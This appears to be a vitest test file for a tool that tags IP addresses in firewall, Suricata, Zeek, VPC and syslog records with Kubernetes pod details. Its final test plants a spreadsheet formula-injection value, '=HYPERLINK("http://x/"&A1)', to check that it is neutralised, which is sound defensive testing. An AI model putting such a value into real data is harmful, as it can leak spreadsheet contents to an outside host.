import { describe, expect, it } from 'vitest';
import type { AnnotateOptions } from '../annotation.js';
import { annotated, answerOf, askedFor } from '../annotation.test.helpers.js';

const POD = (n: number) => `web-${n},shop,Deployment/web,node-3,pod,`;
const EPOCH = Date.parse('2026-11-26T14:05:00Z') / 1_000;
const text = (...lines: string[]) => `${lines.join('\n')}\n`;
const TSV = (values: string) => values.replaceAll(' ', '\t');
const ADDED = ['pod', 'namespace', 'workload', 'node', 'verdict', 'reason'];
const namesOf = (...columns: string[]) =>
  columns.flatMap((column) => ADDED.map((each) => `${column}_${each}`));
const EVE = (more: string) =>
  `{"timestamp":"2026-11-26T15:05:00.251547+0100","event_type":"dns",${more}"src_ip":"10.64.0.1","dest_ip":"8.8.8.8"}`;

interface Sample {
  readonly name: string;
  readonly input: string;
  readonly output: string;
  readonly options?: Partial<AnnotateOptions>;
  readonly found: readonly [format: string, time: string, ...addresses: string[]];
}

const SAMPLES: readonly Sample[] = [
  {
    name: 'CSV of a firewall',
    input: text(
      'time,src,dst,action,note',
      '2026-11-26 14:05:00,10.64.0.1,8.8.8.8,allow,"said ""hi"", left"',
      '2026-11-26 14:15:00,10.64.0.1,10.64.0.9,deny,',
    ),
    output: text(
      `time,src,dst,action,note,${namesOf('src', 'dst')}`,
      `2026-11-26 14:05:00,10.64.0.1,8.8.8.8,allow,"said ""hi"", left",${POD(1)},,,,,outside,`,
      `2026-11-26 14:15:00,10.64.0.1,10.64.0.9,deny,,${POD(2)},,,,,nobody,`,
    ),
    found: ['csv', 'time', 'src', 'dst'],
  },
  {
    name: 'CSV with semicolons, quotes, BOM, umlauts and CRLF',
    input: '\ufeff"Zeit";"Gerät";"Adresse"\r\n"26/Nov/2026:15:05:00 +0100";"Küche";"10.64.0.66"\r\n',
    output: `\ufeff"Zeit";"Gerät";"Adresse";${namesOf('Adresse').join(';')}\r\n"26/Nov/2026:15:05:00 +0100";"Küche";"10.64.0.66";;;;;unsure;"a gap, from 14:00 to ""15:00"""\r\n`,
    found: ['csv', 'Zeit', 'Adresse'],
  },
  {
    name: 'CSV with a title above its header',
    input: text(
      'Firewall export, all',
      'of 2026-11-26',
      'time,src,dst',
      '2026-11-26 14:05:00,10.64.0.1,8.8.8.8',
      '2026-11-26 14:05:00,10.64.0.9,8.8.8.8',
    ),
    output: text(
      'Firewall export, all',
      'of 2026-11-26',
      `time,src,dst,${namesOf('src', 'dst')}`,
      `2026-11-26 14:05:00,10.64.0.1,8.8.8.8,${POD(1)},,,,,outside,`,
      '2026-11-26 14:05:00,10.64.0.9,8.8.8.8,,,,,nobody,,,,,,outside,',
    ),
    found: ['csv', 'time', 'src', 'dst'],
  },
  {
    name: 'CSV with a BOM and without a header',
    input: '\ufeff10.64.0.9;2026-11-26 14:05:00\n10.64.0.1;2026-11-26 14:05:00\n',
    output: `\ufeff10.64.0.9;2026-11-26 14:05:00;;;;;nobody;\n10.64.0.1;2026-11-26 14:05:00;${POD(1).replaceAll(',', ';')}\n`,
    found: ['csv', '2', '1'],
  },
  {
    name: 'TSV without a header',
    input: text(TSV(`${EPOCH} 10.64.0.1 443`), TSV(`${EPOCH} 192.168.0.5 80`)),
    output: text(
      TSV(`${EPOCH} 10.64.0.1 443 web-1 shop Deployment/web node-3 pod `),
      TSV(`${EPOCH} 192.168.0.5 80    node-3 node `),
    ),
    // Numbers without a name may be anything.
    options: { time: ['1'] },
    found: ['tsv', '1', '2'],
  },
  {
    name: 'a quoted field with several lines',
    input: text(
      'src,msg,at',
      '10.64.0.1,"one',
      'two, three",2026-11-26T14:05:00Z',
      '10.64.0.9,x,2026-11-26T14:05:00Z',
    ),
    output: text(
      `src,msg,at,${namesOf('src')}`,
      '10.64.0.1,"one',
      `two, three",2026-11-26T14:05:00Z,${POD(1)}`,
      '10.64.0.9,x,2026-11-26T14:05:00Z,,,,,nobody,',
    ),
    found: ['csv', 'at', 'src'],
  },
  {
    name: 'date and time in columns of their own',
    input: text('date,time,c-ip', '2026-11-26,14:05:00,10.64.0.1'),
    output: text(`date,time,c-ip,${namesOf('c-ip')}`, `2026-11-26,14:05:00,10.64.0.1,${POD(1)}`),
    found: ['csv', 'date and time', 'c-ip'],
  },
  {
    name: 'JSON lines with fields in objects',
    input: text('{"@timestamp":"2026-11-26T14:05:00.000Z","source":{"ip":"10.64.0.1","port":443},"msg":"ü"}'),
    output: text(
      '{"@timestamp":"2026-11-26T14:05:00.000Z","source":{"ip":"10.64.0.1","port":443},"msg":"ü","source.ip_pod":"web-1","source.ip_namespace":"shop","source.ip_workload":"Deployment/web","source.ip_node":"node-3","source.ip_verdict":"pod","source.ip_reason":""}',
    ),
    found: ['jsonl', '@timestamp', 'source.ip'],
  },
  {
    name: 'JSON lines with a BOM',
    input: '\ufeff{"ts":"2026-11-26T14:05:00Z","ip":"10.64.0.9"}\n',
    output:
      '\ufeff{"ts":"2026-11-26T14:05:00Z","ip":"10.64.0.9","ip_pod":"","ip_namespace":"","ip_workload":"","ip_node":"","ip_verdict":"nobody","ip_reason":""}\n',
    found: ['jsonl', 'ts', 'ip'],
  },
  {
    name: 'Suricata EVE',
    input: text(
      EVE(''),
      EVE('"flow":{"start":"2026-11-26T14:05:00.0+0000","end":"2026-11-26T14:12:00.0+0000"},'),
      '{"timestamp":"2026-11-26T14:05:00.0+0000","event_type":"stats","stats":{"uptime":8}}',
    ),
    output: text(
      EVE('').replace(
        '}',
        ',"src_ip_pod":"web-1","src_ip_namespace":"shop","src_ip_workload":"Deployment/web","src_ip_node":"node-3","src_ip_verdict":"pod","src_ip_reason":"","dest_ip_pod":"","dest_ip_namespace":"","dest_ip_workload":"","dest_ip_node":"","dest_ip_verdict":"outside","dest_ip_reason":""}',
      ),
      EVE('"flow":{"start":"2026-11-26T14:05:00.0+0000","end":"2026-11-26T14:12:00.0+0000"},').replace(
        /\}$/,
        ',"src_ip_pod":"","src_ip_namespace":"","src_ip_workload":"","src_ip_node":"","src_ip_verdict":"unsure","src_ip_reason":"it changed","dest_ip_pod":"","dest_ip_namespace":"","dest_ip_workload":"","dest_ip_node":"","dest_ip_verdict":"outside","dest_ip_reason":""}',
      ),
      '{"timestamp":"2026-11-26T14:05:00.0+0000","event_type":"stats","stats":{"uptime":8}}',
    ),
    found: ['eve', 'timestamp', 'src_ip', 'dest_ip'],
  },
  {
    name: 'Zeek conn.log',
    input: text(
      '#separator \\x09',
      TSV('#set_separator ,'),
      TSV('#empty_field (empty)'),
      TSV('#unset_field -'),
      TSV('#path conn'),
      TSV('#fields ts uid id.orig_h id.orig_p id.resp_h duration'),
      TSV('#types time string addr port addr interval'),
      TSV(`${EPOCH}.305988 CHhAvVGS1DHFjwGM9 10.64.0.1 52100 10.64.0.9 -`),
      TSV(`${EPOCH}.305988 CHhAvVGS1DHFjwGM9 10.64.0.1 52100 192.168.0.5 600.5`),
      TSV('#close 2026-11-26-15-00-00'),
    ),
    output: text(
      '#separator \\x09',
      TSV('#set_separator ,'),
      TSV('#empty_field (empty)'),
      TSV('#unset_field -'),
      TSV('#path conn'),
      TSV(
        `#fields ts uid id.orig_h id.orig_p id.resp_h duration ${namesOf('id.orig_h', 'id.resp_h').join(' ')}`,
      ),
      TSV(`#types time string addr port addr interval ${Array(12).fill('string').join(' ')}`),
      TSV(
        `${EPOCH}.305988 CHhAvVGS1DHFjwGM9 10.64.0.1 52100 10.64.0.9 - web-1 shop Deployment/web node-3 pod - - - - - nobody -`,
      ),
      `${TSV(`${EPOCH}.305988 CHhAvVGS1DHFjwGM9 10.64.0.1 52100 192.168.0.5 600.5 - - - - unsure`)}\tit changed\t${TSV('- - - node-3 node -')}`,
      TSV('#close 2026-11-26-15-00-00'),
    ),
    found: ['zeek', 'ts', 'id.orig_h', 'id.resp_h'],
  },
  {
    name: 'Zeek as JSON',
    input: text(
      `{"ts":${EPOCH}.305988,"uid":"C1","id.orig_h":"10.64.0.1","id.resp_h":"10.64.0.9","duration":1.5}`,
    ),
    output: text(
      `{"ts":${EPOCH}.305988,"uid":"C1","id.orig_h":"10.64.0.1","id.resp_h":"10.64.0.9","duration":1.5,"id.orig_h_pod":"web-1","id.orig_h_namespace":"shop","id.orig_h_workload":"Deployment/web","id.orig_h_node":"node-3","id.orig_h_verdict":"pod","id.orig_h_reason":"","id.resp_h_pod":"","id.resp_h_namespace":"","id.resp_h_workload":"","id.resp_h_node":"","id.resp_h_verdict":"nobody","id.resp_h_reason":""}`,
    ),
    found: ['zeek', 'ts', 'id.orig_h', 'id.resp_h'],
  },
  {
    name: 'AWS VPC flow logs with a header',
    input: text(
      'version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status',
      `2 123456789010 eni-1235b8ca123456789 10.64.0.1 8.8.8.8 49761 3389 6 20 4249 ${EPOCH} ${EPOCH + 60} ACCEPT OK`,
      `2 123456789010 eni-1235b8ca123456789 - - - - - - - ${EPOCH} ${EPOCH + 60} - NODATA`,
    ),
    output: text(
      `version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status ${namesOf('srcaddr', 'dstaddr').join(' ').replaceAll('_', '-')}`,
      `2 123456789010 eni-1235b8ca123456789 10.64.0.1 8.8.8.8 49761 3389 6 20 4249 ${EPOCH} ${EPOCH + 60} ACCEPT OK web-1 shop Deployment/web node-3 pod - - - - - outside -`,
      `2 123456789010 eni-1235b8ca123456789 - - - - - - - ${EPOCH} ${EPOCH + 60} - NODATA - - - - - - - - - - - -`,
    ),
    found: ['vpc', 'start to end', 'srcaddr', 'dstaddr'],
  },
  {
    name: 'AWS VPC flow logs from CloudWatch',
    input: text(
      `2026-11-26T14:06:00.000Z 2 123456789010 eni-1235b8ca123456789 10.64.0.66 8.8.8.8 49761 3389 6 20 4249 ${EPOCH} ${EPOCH + 60} ACCEPT OK`,
    ),
    output: text(
      `2026-11-26T14:06:00.000Z 2 123456789010 eni-1235b8ca123456789 10.64.0.66 8.8.8.8 49761 3389 6 20 4249 ${EPOCH} ${EPOCH + 60} ACCEPT OK - - - - unsure a_gap,_from_14:00_to_"15:00" - - - - outside -`,
    ),
    found: ['vpc', 'start to end', 'srcaddr', 'dstaddr'],
  },
  {
    name: 'lines of syslog, access logs, Fortinet, Cisco and Squid',
    input: text(
      'Nov 26 14:05:00 fw kernel: DROP IN=eth0 SRC=10.64.0.1 DST=10.64.0.9 LEN=60',
      '10.64.0.1 - - [26/Nov/2026:15:05:00 +0100] "GET / HTTP/1.1" 200 "Chrome/120.0.0.0"',
      'date=2026-11-26 time=14:05:00 devname="fw" srcip=10.64.0.1 dstip=8.8.8.8',
      'Nov 26 2026 14:05:00: %ASA-6-302013: Built outbound TCP for inside:192.168.0.5/443',
      `${EPOCH}.123    300 10.64.0.66 TCP_MISS/200 1234 GET http://x/ - DIRECT/8.8.8.8`,
      '2026/11/26 14:05:00 [error] client: fd00::7, nothing else',
      '-- MARK --',
    ),
    output: text(
      'Nov 26 14:05:00 fw kernel: DROP IN=eth0 SRC=10.64.0.1 DST=10.64.0.9 LEN=60 [podips 10.64.0.1 pod=web-1 namespace=shop workload=Deployment/web node=node-3 verdict=pod] [podips 10.64.0.9 verdict=nobody]',
      '10.64.0.1 - - [26/Nov/2026:15:05:00 +0100] "GET / HTTP/1.1" 200 "Chrome/120.0.0.0" [podips 10.64.0.1 pod=web-1 namespace=shop workload=Deployment/web node=node-3 verdict=pod]',
      'date=2026-11-26 time=14:05:00 devname="fw" srcip=10.64.0.1 dstip=8.8.8.8 [podips 10.64.0.1 pod=web-1 namespace=shop workload=Deployment/web node=node-3 verdict=pod] [podips 8.8.8.8 verdict=outside]',
      'Nov 26 2026 14:05:00: %ASA-6-302013: Built outbound TCP for inside:192.168.0.5/443 [podips 192.168.0.5 node=node-3 verdict=node]',
      `${EPOCH}.123    300 10.64.0.66 TCP_MISS/200 1234 GET http://x/ - DIRECT/8.8.8.8 [podips 10.64.0.66 verdict=unsure reason="a gap, from 14:00 to \\"15:00\\""] [podips 8.8.8.8 verdict=outside]`,
      '2026/11/26 14:05:00 [error] client: fd00::7, nothing else [podips fd00::7 verdict=outside]',
      '-- MARK --',
    ),
    found: ['plain', 'the first time of a line', 'all addresses of a line'],
  },
];

describe('each format', () => {
  it.each(SAMPLES)(
    '$name: is detected, and annotated with all of its bytes kept',
    async ({ input, output, options, found }) => {
      const { text: got, summary } = await annotated([input], options);
      expect(got).toBe(output);
      expect([summary.format?.name, summary.format?.time, ...(summary.format?.addresses ?? [])]).toEqual(
        found,
      );
      expect(summary.unreadable).toBe(0);
    },
  );
});

it('a record that ends before it begins is asked for at its first time', async () => {
  const flow = '"flow":{"start":"2026-11-26T14:05:00.5Z","end":"2026-11-26T14:04:00.5Z"},';
  expect(await askedFor(`${EVE(flow)}\n`)).toBe('2026-11-26T14:05:00.500Z 1, 2026-11-26T14:05:00.500Z 1');
});

it('a flow whose end cannot be read is not asked for at the time when it was logged', async () => {
  const flow = '"flow":{"start":"2026-11-26T14:05:00.5Z","end":"2026-11-26T14:04:00.5 CET"},';
  expect(await askedFor(`${EVE(flow)}\n`)).toBe('unreadable');
});

it('adds no formula to a table, whatever the owner of a pod is called', async () => {
  const evil = answerOf('pod', {
    namespace: 'shop',
    pod: 'web-1',
    workload_kind: '=HYPERLINK("http://x/"&A1)',
  });
  const { text: out } = await annotated([text('time,src', '2026-11-26 14:05:00,10.64.0.1')], {
    ask: async (questions) => questions.map(() => ({ ...evil, workload: 'web' })),
  });
  expect(out).toContain(`,"'=HYPERLINK(""http://x/""&A1)/web",`);
});
